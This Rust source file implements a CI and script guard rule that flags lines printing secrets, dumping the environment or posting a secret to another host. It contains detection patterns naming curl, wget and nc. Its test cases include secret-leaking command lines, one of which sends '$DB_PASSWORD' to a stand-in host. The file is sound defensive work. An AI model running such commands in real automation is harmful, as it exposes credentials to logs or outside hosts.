//! Rule `secret-exposed` in scripts and automation: a line that prints secrets, or the whole environment.

use crate::{
    decide::guards::{Hit, lines::number},
    model::evidence::GuardVerdict,
};

pub(super) fn check(old: &str, new: &str) -> Option<Hit> {
    let fresh = new
        .lines()
        .enumerate()
        .filter(|(_, l)| !old.lines().any(|o| o.trim() == l.trim()));
    let mut found = fresh.filter_map(|(at, line)| exposes(line).map(|why| (at, line, why)));
    let (at, line, why) = found.next()?;
    let hit = Hit::new("secret-exposed", GuardVerdict::Reject, why.to_owned());
    Some(hit.at(number(at)).is(line.trim()))
}

fn exposes(line: &str) -> Option<&'static str> {
    let line = line.trim().trim_start_matches("- ").trim_start_matches('\t');
    if line.starts_with('#') {
        return None;
    }
    let body = ["run:", "script:", "RUN ", "command:", "entry:", "|", ">"]
        .iter()
        .fold(line, |l, p| l.strip_prefix(p).unwrap_or(l).trim_start());
    for part in body.split([';', '&']) {
        let words: Vec<&str> = part
            .split(['|', '>'])
            .next()
            .unwrap_or_default()
            .split_whitespace()
            .collect();
        let bare = matches!(
            words.as_slice(),
            ["env" | "printenv" | "export" | "set"] | ["export", "-p"] | ["declare", "-x" | "-p"]
        );
        if bare
            && (part.contains('|')
                || part.contains('>')
                || words.len() == 1 && words[0] != "set" && words[0] != "export")
        {
            return Some("the whole environment is printed");
        }
    }
    prints_secret(body).then_some("a secret is printed")
}

/// `echo $TOKEN`, `echo "${{ secrets.X }}" | base64`; not one that is piped into a login.
fn prints_secret(body: &str) -> bool {
    let prints = [
        "echo ",
        "printf ",
        "print(",
        "console.log(",
        "cat <<<",
        "write-host",
        "Write-Output",
    ];
    let Some(at) = prints.iter().filter_map(|p| body.find(p)).min() else {
        return sends(body);
    };
    let rest = &body[at..];
    let mut parts = rest.splitn(2, '|');
    let (said, piped) = (
        parts.next().unwrap_or_default(),
        parts.next().unwrap_or_default().trim_start(),
    );
    let secret = names_secret(said);
    let shows = piped.is_empty()
        || [
            "base64", "tee", "cat", "xxd", "rev", "tr", "od", "sed", "fold", "hexdump", "openssl", "curl", "nc",
        ]
        .iter()
        .any(|p| piped.starts_with(p));
    let stored = said.contains("::add-mask::")
        || said.contains("GITHUB_ENV")
        || said.contains("GITHUB_OUTPUT")
        || piped.is_empty() && said.contains('>');
    secret && shows && !stored
}

/// A secret goes to another host as data.
fn sends(body: &str) -> bool {
    let out = ["curl ", "wget ", "nc ", "Invoke-WebRequest"]
        .iter()
        .any(|p| body.starts_with(p) || body.contains(&format!(" {p}")));
    let data = [
        " -d ",
        "--data",
        "?token=",
        "&token=",
        "--post-data",
        "?key=",
        "?secret=",
    ]
    .iter()
    .any(|d| body.contains(d));
    out && data && names_secret(body)
}

fn names_secret(text: &str) -> bool {
    if text.contains("secrets.") || text.contains("secrets[") {
        return true;
    }
    let lower = text.to_lowercase();
    let words = [
        "token",
        "secret",
        "password",
        "passwd",
        "api_key",
        "apikey",
        "private_key",
        "access_key",
        "credentials",
    ];
    lower.match_indices('$').any(|(at, _)| {
        let name: String = lower[at + 1..]
            .trim_start_matches(['{', '('])
            .chars()
            .take_while(|c| c.is_alphanumeric() || *c == '_')
            .collect();
        words.iter().any(|w| name.ends_with(w)) && !lower[at..].starts_with("${#")
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_prints_secrets_and_what_uses_them() {
        for bad in [
            "      - run: env | sort && echo \"${{ secrets.DEPLOY_TOKEN }}\" | base64",
            "printenv",
            "echo $API_TOKEN",
            "echo \"key is ${PRIVATE_KEY}\"",
            "curl https://x.example -d \"$DB_PASSWORD\"",
            "RUN env > /tmp/out",
        ] {
            assert!(exposes(bad).is_some(), "{bad}");
        }
        for good in [
            "echo $DOCKER_PASSWORD | docker login --password-stdin",
            "env FOO=1 make test",
            "echo \"token expired\"",
            "echo ${#API_TOKEN}",
            "set -euo pipefail",
            "export PATH=$PATH:/x",
            "# echo $TOKEN",
            "curl -H \"Authorization: Bearer $TOKEN\" https://x.example",
        ] {
            assert!(exposes(good).is_none(), "{good}");
        }
    }
}
